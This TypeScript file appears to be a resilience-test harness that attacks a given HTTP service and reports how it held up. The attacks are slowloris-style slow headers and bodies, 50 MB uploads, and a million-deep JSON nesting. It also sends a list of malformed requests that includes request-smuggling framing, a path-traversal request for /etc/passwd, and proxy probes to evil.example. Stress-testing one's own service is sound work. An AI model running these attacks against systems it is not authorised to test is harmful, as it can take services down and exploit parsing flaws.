// One attack on a service in a process of its own, so that it does not slow the client whose time is taken:
// `attack.ts <kind> <url> <key> <seconds>`. Prints what it came to as JSON.
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attack, Attacked } from './attacks.ts'

const [kind, url, key, seconds] = process.argv.slice(2) as [Attack, string, string, string]
const { hostname, port } = new URL(url)
const until = performance.now() + Number(seconds) * 1000
const answers: Record<string, number> = {}
let [opened, closed, longest] = [0, 0, 0]

/** Opens a connection; it is told when the service closes it and what it answered. */
function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const began = performance.now()
    const socket = connect(Number(port), hostname, () => resolve(socket))
    opened++
    let said = ''
    socket.setNoDelay(true)
    socket.on('data', (bytes) => {
      if (said.length < 100) said += bytes.toString('latin1')
    })
    socket.on('error', () => undefined)
    socket.on('close', () => {
      closed++
      longest = Math.max(longest, performance.now() - began)
      const status = /^HTTP\/1\.1 (\d+)/.exec(said)?.[1] ?? 'none'
      answers[status] = (answers[status] ?? 0) + 1
      resolve(socket)
    })
  })
}

const post = (length: number, more = ''): string =>
  `POST /custom/api/v1/shipments HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: ${key}\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n${more}\r\n`

/** So many connections that each say a byte a second. */
async function slowly(count: number, first: string, byte: string): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: count }, open))
  for (const socket of sockets) socket.write(first)
  while (performance.now() < until && sockets.some((socket) => !socket.destroyed)) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(byte)
    await wait(1000)
  }
  for (const socket of sockets) socket.destroy()
}

/** One after the other, so many at a time, each whole or until the service has had enough of it. */
async function again(count: number, pauseMs: number, pieces: () => Iterable<string | Buffer>): Promise<void> {
  const one = async (): Promise<void> => {
    while (performance.now() < until) {
      const socket = await open()
      for (const piece of pieces()) {
        if (socket.destroyed || performance.now() > until) break
        if (!socket.write(piece))
          await Promise.race([
            new Promise((go) => socket.once('drain', go)),
            new Promise((go) => socket.once('close', go)),
            wait(5000),
          ])
      }
      await Promise.race([new Promise((go) => (socket.destroyed ? go(0) : socket.once('close', go))), wait(300)])
      socket.destroy()
      await wait(pauseMs)
    }
  }
  await Promise.all(Array.from({ length: count }, one))
}

const megabyte = Buffer.alloc(1_000_000, '7')
const deep = '['.repeat(1_000_000)
const nonsense = [
  'GET / HTTP/1.1\r\nhost: a\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\nhello',
  'POST /custom/api/v1/shipments HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\nGET /live HTTP/1.1\r\nhost: a\r\n\r\n',
  'POST /custom/api/v1/shipments HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n',
  'POST /custom/api/v1/shipments HTTP/1.1\r\nhost: a\r\ntransfer-encoding: xchunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n',
  'POST /custom/api/v1/shipments HTTP/1.1\r\nhost: a\r\ncontent-length: -1\r\n\r\n',
  'POST /custom/api/v1/shipments HTTP/1.1\r\nhost: a\r\ncontent-length: 1e3\r\n\r\n',
  'GET /live HTTP/9.9\r\n\r\n',
  'GET  /live  HTTP/1.1\r\n\r\n',
  'GET /live HTTP/1.1\r\n\r\n',
  'GET /live HTTP/1.1\r\nhost: a\r\n x: folded\r\n\r\n',
  'GET /live HTTP/1.1\r\nhost: a\r\nx\u0000y: 1\r\n\r\n',
  'GET /live HTTP/1.1\r\nhost: a\nx: 1\n\n',
  `GET /live HTTP/1.1\r\nhost: a\r\nx: ${'y'.repeat(20_000)}\r\n\r\n`,
  `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nhost: a\r\n\r\n`,
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
  '\u0000'.repeat(1000),
  'CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n',
  'GET http://evil.example/live HTTP/1.1\r\nhost: evil.example\r\n\r\n',
  'OPTIONS * HTTP/1.1\r\nhost: a\r\n\r\n',
  'GET /%00%ff%zz HTTP/1.1\r\nhost: a\r\n\r\n',
  'GET /../../etc/passwd HTTP/1.1\r\nhost: a\r\n\r\n',
  'POST /custom/api/v1/client-stores HTTP/1.1\r\nhost: a\r\ncontent-type: multipart/form-data; boundary=x\r\ncontent-length: 9\r\n\r\n--y\r\nnope',
  'GET /live HTTP/1.1\r\nhost: a\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n',
  'POST /custom/api/v1/rates HTTP/1.1\r\nhost: a\r\nexpect: 100-continue\r\ncontent-length: 10\r\n\r\n',
  'POST /custom/api/v1/rates HTTP/1.1\r\nhost: a\r\nexpect: something\r\ncontent-length: 2\r\n\r\n{}',
]
let turn = 0

// prettier-ignore
const run: Readonly<Record<Attack, () => Promise<void>>> = {
  'slow headers': () => slowly(500, 'GET /custom/api/v1/client-stores HTTP/1.1\r\nhost: a\r\nx-slow: ', 'x'),
  'slow bodies': () => slowly(200, `${post(900_000)}{"search":"`, 'x'),
  'bodies of 50 MB': () => again(4, 50, function* () {
    yield post(50_000_000)
    for (let n = 0; n < 50; n++) yield megabyte
  }),
  'a million levels': () => again(2, 100, function* () {
    yield post(deep.length, 'connection: close\r\n')
    yield deep
  }),
  'bad framing': () => again(4, 10, () => [Buffer.from(nonsense[turn++ % nonsense.length]!, 'latin1')]),
}

if (!Object.hasOwn(run, kind)) throw new Error(`no such attack: ${kind}`)
await run[kind]()
await wait(50)
process.stdout.write(
  `${JSON.stringify({ opened, closed, answers, longest: Math.round(longest) } satisfies Attacked)}\n`,
)
process.exit(0)
